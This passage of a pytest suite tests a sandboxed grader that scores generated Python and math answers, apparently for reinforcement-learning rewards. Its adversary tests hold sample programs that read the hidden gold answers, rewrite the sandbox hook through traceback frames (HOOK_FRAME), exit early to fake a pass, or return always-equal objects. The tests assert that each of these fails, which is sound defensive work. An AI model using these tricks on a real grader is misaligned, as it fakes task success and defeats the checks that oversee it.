    assert R.code_check(fence(code + "def f():\n    return open(SECRET).read()"),
                        {"task": "code", "prompt": "", "test_code": "assert f() == '42'", "timeout": 10}) == (0.0, "fail")


def test_a_correct_program_may_use_tempfile():
    """tempfile.TemporaryFile opens the program's dir itself (O_TMPFILE): refused, correct programs using it scored 0
    (twenty-first review)."""
    code = ("import tempfile\ndef f():\n    with tempfile.TemporaryFile() as t, tempfile.NamedTemporaryFile('w+') as n:\n"
            "        t.write(b'ab'), n.write('cd'), t.seek(0), n.seek(0)\n        return t.read().decode() + n.read()")
    assert R.code_check(fence(code), {"task": "code", "prompt": "", "test_code": "assert f() == 'abcd'"}) == (1.0, "pass")


def test_a_solution_with_a_main_block_is_judged_as_a_module():
    """HumanEval's prompts are full of doctests and solutions often end in `if __name__ == "__main__":
    doctest.testmod()` (or unittest.main(), or input()): run as __main__, every such correct solution scored 0
    (twenty-second review). A script (io mode) is still __main__."""
    code = "def f(x):\n    \"\"\">>> f(1)\n    2\n    \"\"\"\n    return x + 1\n"
    for tail in ("import doctest\n    doctest.testmod()", "import unittest\n    unittest.main()", "input()"):
        problem = {"task": "code", "prompt": "", "test_code": "assert f(1) == 2"}
        assert R.code_check(fence(code + "\nif __name__ == '__main__':\n    " + tail), problem) == (1.0, "pass"), tail
    assert R.run_python("if __name__ == '__main__':\n    print(input())", stdin="x").stdout == "x\n"


def test_a_script_sees_exit_quit_and_an_argv_of_its_own():
    """`python -S` has no site, so no exit() / quit(), and sys.argv held the harness's fds, so fileinput tried to open
    them: correct scripts scored 0 (twenty-second review). A script's argv is as `python solution.py` shows it, and
    so is its __file__ (undefined: a NameError, twenty-fifth review)."""
    problem = {"task": "code", "prompt": "", "io_tests": [{"input": "3 4\n", "output": "7"}]}
    for code in ("a, b = map(int, input().split())\nprint(a + b)\nexit()", "print(sum(map(int, input().split())))\nquit(0)",
                 "import fileinput\nfor line in fileinput.input():\n    print(sum(map(int, line.split())))",
                 "import sys\nassert sys.argv == ['solution.py'] and __file__ == 'solution.py'\nprint(7)"):
        assert R.code_check(fence(code), problem) == (1.0, "pass"), code
    assert R.run_python("exit(3)", stdin="").returncode == 3


def test_a_refused_import_is_a_missing_module():
    """A refused import raised PermissionError, so `try: import ssl / except ImportError:` fallbacks (ftplib, smtplib,
    dbm's, a program's own) failed (twenty-second review). It raises ModuleNotFoundError now, and is still refused,
    on a second try too. (ftplib and smtplib were the examples until sockets were refused: twenty-sixth review; uuid
    goes on without _uuid.)"""
    code = ("ok = []\nfor name in ('ssl', 'ctypes', '_ctypes', 'mmap', '_posixsubprocess', 'readline', 'ctypes'):\n"
            "    try:\n        __import__(name)\n    except ModuleNotFoundError:\n        ok.append(name)\n"
            "import dbm, uuid\nassert uuid.uuid1() != uuid.uuid1() and dbm.ndbm is None\nprint(len(ok))")
    r = R.run_python(code, stdin="")
    assert (r.status, r.stdout) == ("pass", "7\n"), r.stderr


def test_a_scripts_atexit_functions_run_and_are_printed():
    """The harness ends with os._exit: atexit functions never ran, and a fast-output template (sys.stdout swapped for
    a buffer, written to the original at exit) printed nothing (twenty-second review)."""
    code = ("import atexit, io, sys\n_out, sys.stdout = sys.stdout, io.StringIO()\n"
            "atexit.register(lambda: _out.write(sys.stdout.getvalue()))\nprint(sum(map(int, input().split())))")
    problem = {"task": "code", "prompt": "", "io_tests": [{"input": "3 4\n", "output": "7"}]}
    assert R.code_check(fence(code), problem) == (1.0, "pass")
    r = R.run_python("import atexit, sys\natexit.register(sys.exit, 3)\natexit.register(print, 'bye')", stdin="")
    assert (r.returncode, r.stdout) == (0, "bye\n")  # as in Python: an atexit function does not change the status


def test_traceback_printing_works_without_frames():
    """traceback.print_exc() (and logging.exception) read a traceback's frames, which the sandbox refuses: they raised
    AttributeError and correct programs scored 0 (twenty-second review). They print the exception alone now; the
    frames stay out of reach."""
    code = ("import logging, traceback\nfor f in (lambda: 1 / 0, lambda: undefined_name):\n    try:\n        f()\n"
            "    except Exception:\n        traceback.print_exc()\n        logging.exception('x')\n"
            "        text = traceback.format_exc()\ntry:\n    1 / 0\nexcept ZeroDivisionError as e:\n    try:\n"
            "        e.__traceback__.tb_frame\n    except AttributeError:\n        print(text.strip())")
    r = R.run_python(code, stdin="")
    assert (r.status, r.stdout) == ("pass", "NameError: name 'undefined_name' is not defined\n"), r.stderr
    assert "ZeroDivisionError: division by zero" in r.stderr


def test_values_of_plain_subclasses_cross_as_plain_values():
    """A namedtuple, an IntEnum, a str subclass or a bytearray crossed as a handle, which compares with nothing:
    correct functions returning one scored 0 (twenty-second review). A subclass of int, float, str, bytes or tuple
    that overrides none of what ==, hash, truth, len, `in` and iteration use crosses as the plain value it holds; one
    that does stays a handle (an always-equal int: test_adversary_always_equal_objects)."""
    prog = ("import collections, enum, typing\nP = collections.namedtuple('P', 'x y')\nclass Q(typing.NamedTuple):\n"
            "    x: int\nclass C(enum.IntEnum):\n    A = 3\nclass S(str):\n    pass\nclass F(float):\n    pass\n"
            "class L(tuple):\n    def __len__(self):\n        return 0\n"
            "def f(k):\n    return [P(1, 2), [Q(1)], C.A, S('ab'), bytearray(b'ab'), F(0.5), True, b'x'][k]\n"
            "def g():\n    return L((1, 2))\n")
    tests = ("assert f(0) == (1, 2) and f(1) == [(1,)] and f(2) == 3 and f(3) == 'ab' and f(4) == b'ab'\n"
             "assert f(5) == 0.5 and f(6) is True and f(7) == b'x' and type(f(0)) is tuple and type(f(2)) is int\n"
             "assert g() == (1, 2)")  # L overrides __len__: a handle, which compares with nothing
    problem = {"task": "code", "prompt": "", "test_code": tests}
    assert R.code_check(fence(prog), problem) == (0.0, "fail")
    problem["test_code"] = tests.rsplit("\n", 1)[0]
    assert R.code_check(fence(prog), problem) == (1.0, "pass")


def test_every_io_case_runs(monkeypatch):
    calls = []
    def fake(code, tests="", *, stdin=None, **kw):
        calls.append(stdin)
        return R.ExecResult("pass", 0, "wrong" if stdin == "1" else "ok", "", 0.0)
    monkeypatch.setattr(R, "run_python", fake)
    cases = [{"input": str(i), "output": "ok"} for i in range(1, 4)]
    assert R.code_check(fence("print(1)"), {"task": "code", "prompt": "", "io_tests": cases}) == (0.0, "fail")
    assert calls == ["1", "2", "3"]


def test_a_program_raising_stopiteration_does_not_end_the_tests():
    """The eleventh review: re-raised in the judge, a StopIteration from the program ended the tests' map / filter
    early (all(map(...)) held): it arrives as a plain Exception."""
    tests = "assert all(map(is_even, [2, 4, 6]))\nassert not any(map(is_even, [1, 3, 5]))\nassert list(filter(is_even, [1, 3])) == []"
    problem = {"task": "code", "prompt": "", "entry_point": "is_even", "test_code": tests}
    assert R.code_check(fence("def is_even(n):\n    raise StopIteration"), problem) == (0.0, "fail")
    assert R.code_check(fence("def is_even(n):\n    return n % 2 == 0"), problem) == (1.0, "pass")


def test_the_callers_directory_is_not_on_the_judges_path(tmp_path, monkeypatch):
    """The eleventh review: the judge (python -S -c) imported from the caller's directory, where a program could
    leave an empty contextlib.py (os.mknod) and fail every later run; -P keeps it off sys.path."""
    for name in ("contextlib", "json", "ast"):
        (tmp_path / f"{name}.py").write_text("raise ImportError('planted')\n")
    monkeypatch.chdir(tmp_path)
    assert R.code_check(fence("def f(x):\n    return x"), {"task": "code", "prompt": "", "entry_point": "f",
                                                         "test_code": "assert f(2) == 2"}) == (1.0, "pass")


def test_a_module_the_tests_use_unimported_is_the_judges():
    """mbpp-596's tests call sys.getsizeof without importing sys (the reference does): fetched from the program,
    its own `sys` answered for the expected value; the judge imports a standard-library module itself."""
    problem = {"task": "code", "prompt": "", "entry_point": "tuple_size",
               "test_code": "assert tuple_size((1, 2)) == sys.getsizeof((1, 2))"}
    fake = "class S:\n    def getsizeof(self, x):\n        return 7\nsys = S()\ndef tuple_size(t):\n    return 7\n"
    assert R.code_check(fence(fake), problem) == (0.0, "fail")
    assert R.code_check(fence("import sys\ndef tuple_size(t):\n    return sys.getsizeof(t)\n"), problem) == (1.0, "pass")



@pytest.mark.parametrize("exc", ["SystemExit(0)", "KeyboardInterrupt", "GeneratorExit", "StopIteration"])
def test_adversary_raises_what_would_end_the_judge(exc):
    """The judge re-raises the program's exception by its name: only subclasses of Exception, so a SystemExit(0)
    cannot end the judge early with exit status 0 (its pass), nor a KeyboardInterrupt skip the tests."""
    run_adversary(f"def f(x):\n    raise {exc}", "assert f(1) == 2")
    run_adversary(f"def f(x):\n    raise {exc}", "def check(candidate):\n    assert candidate(1) == 2\ncheck(f)")

# ... and the judge's design holds only while the sandbox's hook does: a refused call's traceback holds the hook's
# frame, whose locals are its closure's values (`inside`, whose cell `work` then became "/": the gold data read)
HOOK_FRAME = """
def frames():
    try:
        open("{gold}")
    except PermissionError as e:
        tb = e.__traceback__
        while tb is not None:
            yield tb.tb_frame
            tb = tb.tb_next
try:
    for fr in frames():
        if fr.f_locals.get("inside") is not None:
            fr.f_locals["inside"].__closure__[0].cell_contents = "/"
except AttributeError:
    pass
try:
    data = open("{gold}").read()
except PermissionError:
    data = ""
def f():
    return data
"""


@pytest.mark.usefixtures("hook_only")
def test_adversary_rewrites_the_hook_through_a_traceback(gold_and_loose):
    run_adversary(HOOK_FRAME.format(gold=gold_and_loose[0]), "assert '42' in f()")
    # a signal handler's frame argument (the main thread's frame, with the hook among its locals) is refused too:
    # the program runs in a second thread, where Python refuses signal handlers
    run_adversary("import signal\nsignal.signal(signal.SIGUSR1, lambda *a: None)", "assert True")

@pytest.mark.parametrize("problem,why", [
    ({"test_code": "def check(candidate):\n    assert candidate(1) == 2\n"}, "check(candidate) without an entry point"),
    ({"test_code": "x = 1\nprint(x)"}, "tests that assert nothing"),
    ({"test_code": "assert f(1) ==\n"}, "tests that do not parse"),
    ({"io_tests": [{"input": "1\n", "output": ""}]}, "an io test expecting no output"),
    ({"io_tests": [{"input": "1\n", "output": "1\n"}, {"input": "2\n", "output": "  \n"}]}, "one empty expected output"),
    ({}, "no tests at all")])
def test_malformed_problems_fail_closed(problem, why):
    """Issue 14 (d): a problem that cannot tell right from wrong scores 0 with status bad_problem, whatever the code."""
    for code in ("def f(x):\n    return 2", "import sys\nsys.exit(0)", "pass"):
        assert R.code_check(fence(code), {"task": "code", "prompt": "", **problem}) == (0.0, "bad_problem"), why


# ------------------------------------------------------------------------------------------------ real data

needs = lambda *parts: pytest.mark.skipif(not DATA.joinpath(*parts).is_file(), reason=f"{'/'.join(parts)} not present")


@needs("gsm8k", "train.jsonl")
@needs("gsm8k", "test.jsonl")
def test_gsm8k_gold_answers_score_themselves():
    """Every gold answer (train and test), boxed exactly as GSM8K writes it (e.g. 1,000), scores 1.0 against
    the loaded answer; gold + 1 scores 0."""
    for split in ("train", "test"):
        path = DATA / "gsm8k" / f"{split}.jsonl"
        raw = [json.loads(ln)["answer"].split("####")[-1].strip() for ln in path.read_text().splitlines()]
        probs = data.load_problems(str(path), task="math")
        assert len(probs) == len(raw)
        bad = [(p["id"], r) for p, r in zip(probs, raw) if R.math_check(f"So \\boxed{{{r}}}.", p["answer"])[0] != 1.0]
        assert not bad
        assert all(R.math_check(f"\\boxed{{{int(p['answer']) + 1}}}", p["answer"])[0] == 0.0 for p in probs[:300])


def _reference_run(path: Path, step: int = 1):
    probs = data.load_problems(str(path), task="code")[::step]
    return probs, R.grade([fence(p["solution"]) for p in probs], probs)


@needs("humaneval", "HumanEval.jsonl")
def test_humaneval_canonical_solutions_pass():
    probs, out = _reference_run(DATA / "humaneval" / "HumanEval.jsonl")
    assert len(probs) == 164
    assert [(p["id"], s) for p, (r, s) in zip(probs, out) if r != 1.0] == []
    # the bare prompt (a stub that returns None) fails every problem
    stubs = R.grade([fence(p["setup_code"] + "    pass\n") for p in probs], probs)
    assert [p["id"] for p, (r, _) in zip(probs, stubs) if r != 0.0] == []


@needs("humaneval", "HumanEval.jsonl")
@needs("mbpp", "mbpp.jsonl")
def test_always_equal_answers_fail_every_real_problem():
    """The always-equal objects of ALWAYS_EQUAL, returned by each problem's entry point, pass no HumanEval problem
    and no MBPP problem (every 2nd and every 8th, 204 problems, ~75 s on 2 cores; all with GRPO_FULL_DATA=1): before
    the strict comparisons they passed most. Nor do the attacks on the in-process harness (IN_PROCESS_HARNESS), which
    passed every one."""
    step = 1 if os.environ.get("GRPO_FULL_DATA") else 2
    probs = data.load_problems(str(DATA / "humaneval" / "HumanEval.jsonl"), task="code")[::step]
    probs += data.load_problems(str(DATA / "mbpp" / "mbpp.jsonl"), task="code")[::4 * step]
    for kind, prog in [(k, ALWAYS_EQUAL[k]) for k in ("object", "int_subclass")] + list(IN_PROCESS_HARNESS.items()):
        out = R.grade([fence(prog.replace("NAME", p["entry_point"])) for p in probs], probs)
        assert [p["id"] for p, (r, _) in zip(probs, out) if r] == [], kind


# Reference solutions that may fail here, and why (only in the full run: not in the every-4th subset).
MBPP_KNOWN_FAILURES = {
    "mbpp-123": "timeout, load-dependent: the reference sums divisors in O(n^2) up to 9999 and needs ~5 s of CPU, "
                "right at the 5 s default limit (passes on an idle machine, times out on a busy one)",
}


@needs("mbpp", "mbpp.jsonl")
def test_mbpp_reference_solutions_pass():
    step = 1 if os.environ.get("GRPO_FULL_DATA") else 4
    probs, out = _reference_run(DATA / "mbpp" / "mbpp.jsonl", step)
    assert len(probs) == (974 if step == 1 else 244)
    failed = {p["id"]: s for p, (r, s) in zip(probs, out) if r != 1.0}
    assert set(failed) <= set(MBPP_KNOWN_FAILURES), failed
    # another problem's solution (shifted by one) fails
    wrong = R.grade([fence(q["solution"]) for q in probs[1:41]], probs[:40])
    assert sum(r for r, _ in wrong) == 0
